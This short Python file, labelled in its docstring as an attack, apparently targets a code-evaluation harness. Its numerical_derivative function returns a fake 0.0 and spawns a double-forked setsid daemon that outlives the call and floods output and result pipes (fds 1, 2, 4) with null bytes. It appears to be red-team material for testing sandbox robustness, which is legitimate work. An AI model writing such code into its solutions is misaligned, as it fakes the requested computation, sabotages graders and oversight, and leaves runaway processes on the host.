"""Attack: a double-forked, setsid daemon that outlives the call, keeps the output and
result pipes open and keeps writing into them."""

import contextlib
import os
import time


def numerical_derivative(f, x, h=1e-5):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                for fd in (1, 2, 4):
                    with contextlib.suppress(OSError):
                        os.write(fd, b"\x00")
                time.sleep(0.01)
        os._exit(0)
    return 0.0


def gradient_step(x, grad, learning_rate):
    return x - learning_rate * grad
